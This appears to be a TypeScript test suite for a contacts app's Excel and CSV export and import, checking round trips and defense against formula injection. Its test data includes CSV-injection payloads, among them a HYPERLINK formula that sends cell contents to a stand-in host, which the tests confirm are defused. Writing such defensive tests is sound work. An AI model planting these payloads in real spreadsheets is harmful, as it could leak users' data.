import { test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import type { Contact, Contacts } from '../../../src/main/contacts';
import { fixture, ok, withContacts } from './helpers';

async function importInto(contacts: Contacts, file: string, groupName?: string) {
  const preview = ok(await contacts.previewImport(file));
  const plan = ok(await contacts.planImport(file, preview.suggestedMapping, { duplicatePolicy: 'skip', groupName }));
  return ok(contacts.commitImport(plan));
}

/** What a contact is, without what the store adds (id, dates, groups, badge). */
function essence(c: Contact) {
  return { name: c.name, organization: c.organization, pec: c.pec, email: c.email, taxCode: c.taxCode, fields: { ...c.fields }, tags: c.tags, notes: c.notes, isPec: c.isPec };
}

for (const ext of ['xlsx', 'csv']) {
  test(`a group exported to .${ext} and imported into another store gives the same contacts`, () =>
    withContacts(async (source, _s, dir) => {
      await importInto(source, fixture('fornitori-2026.xlsx'), 'Fornitori');
      ok(source.save({ name: '=HYPERLINK("http://x")', organization: '-Meno S.r.l.', pec: 'meno@pec.it', tags: ['a', 'b c'], notes: 'riga 1\nriga 2; "citata"', fields: { nome: 'Solo nome', pec: 'seconda@pec.it', telefono: '+39 02 1234' } }));
      ok(source.save({ name: 'Fuori gruppo', pec: 'fuori@pec.it' }));
      const group = source.findGroup('Fornitori')!;
      source.addToGroup(group.id, source.list({ query: 'meno' }).rows.map((c) => c.id));
      const file = path.join(dir, `fornitori.${ext}`);
      assert.equal(ok(await source.exportContacts(file, { groupId: group.id })).count, 5);

      await withContacts(async (target) => {
        const outcome = await importInto(target, file, 'Fornitori');
        assert.equal(outcome.created, 5);
        const sorted = (cs: Contact[]) => cs.map(essence).sort((a, b) => a.pec.localeCompare(b.pec) || a.email.localeCompare(b.email));
        assert.deepEqual(sorted(target.list().rows), sorted(source.list({ groupId: group.id }).rows));
      });
    }));
}

test('the CSV opens in Italian Excel as it is: BOM, semicolons, CRLF, formulas defused', () =>
  withContacts(async (contacts, _s, dir) => {
    ok(contacts.save({ name: '=1+1', organization: 'Caffè, Bar & C.', pec: 'caffe@pec.it', fields: { telefono: '+39 02 1234' } }));
    const file = path.join(dir, 'contatti.csv');
    ok(await contacts.exportContacts(file));
    const bytes = fs.readFileSync(file);
    assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
    const text = bytes.subarray(3).toString('utf8');
    assert.equal(text, 'Nominativo;Ragione sociale;PEC;E-mail;Codice fiscale / P.IVA;Tag;Note;telefono\r\n\'=1+1;Caffè, Bar & C.;caffe@pec.it;;;;;\'+39 02 1234\r\n');
  }));

test('exporting to an unknown extension says which ones work', () =>
  withContacts(async (contacts, _s, dir) => {
    const result = await contacts.exportContacts(path.join(dir, 'contatti.ods'));
    assert.ok(!result.ok && /\.xlsx o \.csv/.test(result.detail));
  }));

// Values a spreadsheet would run as formulas, and values that only look like them.
const risky: Record<string, string> = {
  telefono: '+39 06 1234',
  saldo: '-5',
  formula: '=HYPERLINK("http://x.example/?"&A1;"clic")',
  chiocciola: '@SUM(A1:A9)',
  tab: '\tcon tabulazione iniziale',
  cr: '\rcon a capo iniziale',
  spazi: '  =1+1',
  apostrofo: "'=già protetta",
  testo: "l'apostrofo in mezzo",
  escape: 'testo_x0041_ come lo scrive Excel',
};

test('a CSV export neutralizes every formula start (= + - @ TAB CR) with an apostrophe, and importing it gives every value back', () =>
  withContacts(async (source, _s, dir) => {
    ok(source.save({ name: '=1+1', organization: '+Più S.r.l.', pec: 'rischi@pec.it', notes: '\t- primo punto\n\t- secondo punto', fields: risky }));
    const file = path.join(dir, 'rischi.csv');
    ok(await source.exportContacts(file));
    const records = Papa.parse<string[]>(fs.readFileSync(file, 'utf8').slice(1), { delimiter: ';', skipEmptyLines: true }).data;
    const [header, row] = records;
    const cell = (name: string) => row[header.indexOf(name)];
    for (const key of ['telefono', 'saldo', 'formula', 'chiocciola', 'tab', 'cr', 'spazi']) assert.equal(cell(key), `'${risky[key]}`, key);
    assert.equal(cell('apostrofo'), `''=già protetta`, 'one more apostrophe, so that reading strips only ours');
    assert.equal(cell('testo'), "l'apostrofo in mezzo", 'nothing else is touched');
    assert.equal(cell('Nominativo'), "'=1+1");
    assert.equal(cell('Note'), "'\t- primo punto\n\t- secondo punto");
    for (const value of row) assert.doesNotMatch(value, /^[=+\-@\t\r]/);

    await withContacts(async (target) => {
      await importInto(target, file);
      const [back] = target.list().rows;
      assert.deepEqual({ ...back.fields }, risky);
      assert.equal(back.name, '=1+1');
      assert.equal(back.organization, '+Più S.r.l.');
      assert.equal(back.notes, '\t- primo punto\n\t- secondo punto', 'the leading TAB of the notes is kept');
    });
  }));

test('an xlsx export writes risky values as text cells in Text-formatted columns, never formulas, and importing it gives them back', () =>
  withContacts(async (source, _s, dir) => {
    ok(source.save({ name: '=1+1', pec: 'rischi@pec.it', notes: '\rnota', fields: risky }));
    const file = path.join(dir, 'rischi.xlsx');
    ok(await source.exportContacts(file));
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const ws = wb.getWorksheet('Contatti')!;
    const header = (ws.getRow(1).values as string[]).slice(1);
    ws.getRow(2).eachCell((c, col) => {
      assert.equal(typeof c.value, 'string', `${header[col - 1]} is a text cell`);
      assert.equal(c.formula, undefined, `${header[col - 1]} is no formula`);
      assert.equal(c.numFmt, '@', `${header[col - 1]} is formatted as Text`);
    });
    assert.equal(ws.getRow(2).getCell(header.indexOf('telefono') + 1).value, '+39 06 1234', 'the value itself is not altered');

    await withContacts(async (target) => {
      await importInto(target, file);
      const [back] = target.list().rows;
      assert.deepEqual({ ...back.fields }, risky);
      assert.equal(back.name, '=1+1');
      assert.equal(back.notes, '\rnota');
    });
  }));
